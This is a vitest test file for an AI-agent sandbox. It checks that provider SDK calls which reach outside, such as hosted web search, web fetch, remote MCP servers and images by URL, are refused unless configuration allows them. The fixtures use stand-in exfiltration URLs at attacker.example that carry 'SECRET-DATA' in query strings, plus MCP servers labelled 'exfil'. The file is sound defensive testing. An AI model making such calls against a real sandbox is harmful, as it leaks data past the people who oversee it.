@@ -1,0 +1,132 @@
+/**
+ * What a provider would reach for the agent, through the official SDKs: hosted web search and
+ * fetch, URL context and search grounding, remote MCP servers the provider calls, and content by
+ * URL. Each is a way past the socket (data out in a URL or a tool call, content in from a server
+ * no MCPBackend approved), so a sandbox refuses it unless `models.providerReach` names it: a 400
+ * in the client's own shape naming the field, and nothing sent upstream.
+ */
+import Anthropic from '@anthropic-ai/sdk';
+import { ApiError, GoogleGenAI } from '@google/genai';
+import OpenAI from 'openai';
+import { describe, expect, it } from 'vitest';
+import type { MockKind } from '../../mocks/index.js';
+import { providerStackForFile, type Stack } from './harness.js';
+
+const KINDS: readonly MockKind[] = ['openai', 'anthropic', 'gemini'];
+const closed = providerStackForFile('reach-closed', { kinds: KINDS });
+const open = providerStackForFile('reach-open', { kinds: KINDS, extra: { models: { providerReach: ['web', 'mcp', 'urls'] } } });
+
+const EXFIL = 'https://attacker.example/pixel.png?d=SECRET-DATA';
+const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
+
+function genai(stack: Stack): GoogleGenAI {
+  const through = (url: string | URL | Request, init?: RequestInit) => stack.fetch(new URL(String(url)).pathname, init as never) as unknown as Promise<Response>;
+  return new GoogleGenAI({ apiKey: 'unused', httpOptions: { baseUrl: 'http://airlock', fetch: through as never, retryOptions: { attempts: 1 } } });
+}
+
+/** What each SDK's call asks the provider to reach, by API: [name, call, the param the refusal names]. */
+const OPENAI_CHAT: [string, (c: OpenAI) => Promise<unknown>, string][] = [
+  ['an image by URL (the provider downloads it, query string and all)', (c) => c.chat.completions.create({ model: 'via-openai', messages: [{ role: 'user', content: [{ type: 'text', text: 'describe' }, { type: 'image_url', image_url: { url: EXFIL } }] }] }), 'messages[0].content[1].image_url.url'],
+  ['web_search_options', (c) => c.chat.completions.create({ model: 'via-openai', web_search_options: {}, messages: [{ role: 'user', content: 'search' }] }), 'web_search_options'],
+];
+const RESPONSES: [string, (c: OpenAI) => Promise<unknown>, string][] = [
+  ['the hosted mcp tool', (c) => c.responses.create({ model: 'via-openai', input: 'use it', tools: [{ type: 'mcp', server_label: 'exfil', server_url: 'https://attacker.example/mcp', require_approval: 'never' }] }), 'tools[0]'],
+  ['the hosted web_search tool', (c) => c.responses.create({ model: 'via-openai', input: 'search', tools: [{ type: 'web_search' }] }), 'tools[0]'],
+  ['an input_image by URL', (c) => c.responses.create({ model: 'via-openai', input: [{ role: 'user', content: [{ type: 'input_text', text: 'describe' }, { type: 'input_image', image_url: EXFIL, detail: 'auto' }] }] }), 'input[0].content[1].image_url'],
+];
+const MESSAGES: [string, (c: Anthropic) => Promise<unknown>, string][] = [
+  ['mcp_servers (the MCP connector beta)', (c) => c.beta.messages.create({ model: 'via-anthropic', max_tokens: 64, betas: ['mcp-client-2025-04-04'], mcp_servers: [{ type: 'url', url: 'https://attacker.example/mcp', name: 'exfil' }], messages: [{ role: 'user', content: 'use it' }] }), 'mcp_servers'],
+  ['the web_fetch server tool', (c) => c.messages.create({ model: 'via-anthropic', max_tokens: 64, tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' } as never], messages: [{ role: 'user', content: 'fetch it' }] }), 'tools[0]'],
+  ['an image by URL', (c) => c.messages.create({ model: 'via-anthropic', max_tokens: 64, messages: [{ role: 'user', content: [{ type: 'image', source: { type: 'url', url: EXFIL } }, { type: 'text', text: 'describe' }] }] }), 'messages[0].content[0].source.url'],
+  [
+    'a document by URL inside a tool result',
+    (c) =>
+      c.messages.create({
+        model: 'via-anthropic',
+        max_tokens: 64,
+        messages: [
+          { role: 'user', content: 'read it' },
+          { role: 'assistant', content: [{ type: 'tool_use', id: 'toolu_01', name: 'read', input: { image_url: EXFIL } }] },
+          { role: 'user', content: [{ type: 'tool_result', tool_use_id: 'toolu_01', content: [{ type: 'document', source: { type: 'url', url: 'https://attacker.example/a.pdf?d=SECRET' } } as never] }] },
+        ],
+      }),
+    'messages[2].content[0].content[0].source.url',
+  ],
+];
+const GEMINI: [string, (g: GoogleGenAI) => Promise<unknown>, string][] = [
+  ['Google Search grounding', (g) => g.models.generateContent({ model: 'via-gemini', contents: 'search', config: { tools: [{ googleSearch: {} }] } }), 'tools[0].googleSearch'],
+  ['URL context', (g) => g.models.generateContent({ model: 'via-gemini', contents: 'read https://attacker.example', config: { tools: [{ urlContext: {} }] } }), 'tools[0].urlContext'],
+  ['file data by a URL outside Google', (g) => g.models.generateContent({ model: 'via-gemini', contents: [{ role: 'user', parts: [{ fileData: { fileUri: EXFIL, mimeType: 'image/png' } }, { text: 'describe' }] }] }), 'contents[0].parts[0].fileData.fileUri'],
+];
+
+/** The upstream requests each mock received, to show what a refusal kept from them. */
+const sent = (kinds = KINDS) => kinds.map((k) => closed.mocks.get(k)!.received.length).reduce((a, b) => a + b, 0);
+
+describe('a sandbox that allows its providers to reach nothing (the default)', () => {
+  it.each(OPENAI_CHAT)('refuses %s in chat completions, in OpenAI\'s shape, naming the field', async (_name, call, param) => {
+    const before = sent();
+    const error = await call(closed.stack.openai({ maxRetries: 0 })).catch((e: unknown) => e);
+    expect(error).toBeInstanceOf(OpenAI.BadRequestError);
+    expect(error).toMatchObject({ status: 400, param, code: 'provider_reach_not_allowed', message: expect.stringContaining('reaches past the sandbox') });
+    expect((error as Error).message).toContain('sandbox reach-closed does not allow');
+    expect(sent()).toBe(before);
+  });
+
+  it.each(RESPONSES)('refuses %s in the Responses API', async (_name, call, param) => {
+    const before = sent();
+    const error = await call(closed.stack.openai({ maxRetries: 0 })).catch((e: unknown) => e);
+    expect(error).toBeInstanceOf(OpenAI.BadRequestError);
+    expect(error).toMatchObject({ status: 400, param, code: 'provider_reach_not_allowed' });
+    expect(sent()).toBe(before);
+  });
+
+  it.each(MESSAGES)('refuses %s in the Messages API, in Anthropic\'s shape', async (_name, call) => {
+    const before = sent();
+    const error = await call(closed.stack.anthropic({ maxRetries: 0 })).catch((e: unknown) => e);
+    expect(error).toBeInstanceOf(Anthropic.BadRequestError);
+    expect((error as InstanceType<typeof Anthropic.BadRequestError>).error).toMatchObject({ type: 'error', error: { type: 'invalid_request_error', message: expect.stringContaining('reaches past the sandbox') } });
+    expect(sent()).toBe(before);
+  });
+
+  it.each(GEMINI)('refuses %s in the Gemini API, in Google\'s shape', async (_name, call, param) => {
+    const before = sent();
+    const error = await call(genai(closed.stack)).catch((e: unknown) => e);
+    expect(error).toBeInstanceOf(ApiError);
+    expect(error).toMatchObject({ status: 400, message: expect.stringContaining('reaches past the sandbox') });
+    expect((error as Error).message).toContain(param);
+    expect(sent()).toBe(before);
+  });
+
+  it('serves what stays inside: images as data, a Gemini file uploaded to Google, a tool input that names a URL, hosted tools that reach nothing', async () => {
+    const chat = await closed.stack.openai().chat.completions.create({ model: 'via-anthropic', messages: [{ role: 'user', content: [{ type: 'text', text: 'describe' }, { type: 'image_url', image_url: { url: `data:image/png;base64,${PNG}` } }] }] });
+    expect(chat.choices[0]!.message.content).toContain('describe');
+    const uploaded = await genai(closed.stack).models.generateContent({ model: 'via-gemini', contents: [{ role: 'user', parts: [{ fileData: { fileUri: 'https://generativelanguage.googleapis.com/v1beta/files/abc123', mimeType: 'application/pdf' } }, { text: 'summarise' }] }] });
+    expect(uploaded.text).toContain('summarise');
+    const history = await closed.stack.anthropic().messages.create({
+      model: 'via-anthropic',
+      max_tokens: 64,
+      messages: [
+        { role: 'user', content: 'look' },
+        { role: 'assistant', content: [{ type: 'tool_use', id: 'toolu_02', name: 'look', input: { image_url: { url: EXFIL } } }] },
+        { role: 'user', content: [{ type: 'tool_result', tool_use_id: 'toolu_02', content: 'seen' }] },
+      ],
+    });
+    expect(history.type).toBe('message');
+    const interpreter = await closed.stack.openai().responses.create({ model: 'via-openai', input: 'compute', tools: [{ type: 'code_interpreter', container: { type: 'auto' } }] });
+    expect(interpreter.status).toBe('completed');
+  });
+});
+
+describe('a sandbox that allows them (models.providerReach: [web, mcp, urls])', () => {
+  it('passes each to a provider of its own API, as sent', async () => {
+    const openai = open.stack.openai();
+    for (const [, call] of [...OPENAI_CHAT, ...RESPONSES]) await call(openai);
+    const anthropic = open.stack.anthropic();
+    for (const [, call] of MESSAGES) await call(anthropic);
+    for (const [, call] of GEMINI) await call(genai(open.stack));
+    const bodies = (kind: MockKind) => open.mocks.get(kind)!.received.map((r) => JSON.stringify(r.body));
+    expect(bodies('openai').filter((b) => b.includes('attacker.example') || b.includes('web_search'))).toHaveLength(5);
+    expect(bodies('anthropic').filter((b) => b.includes('attacker.example') || b.includes('web_fetch'))).toHaveLength(4);
+    expect(bodies('gemini').filter((b) => b.includes('attacker.example') || b.includes('googleSearch') || b.includes('urlContext'))).toHaveLength(3);
+  });
+});
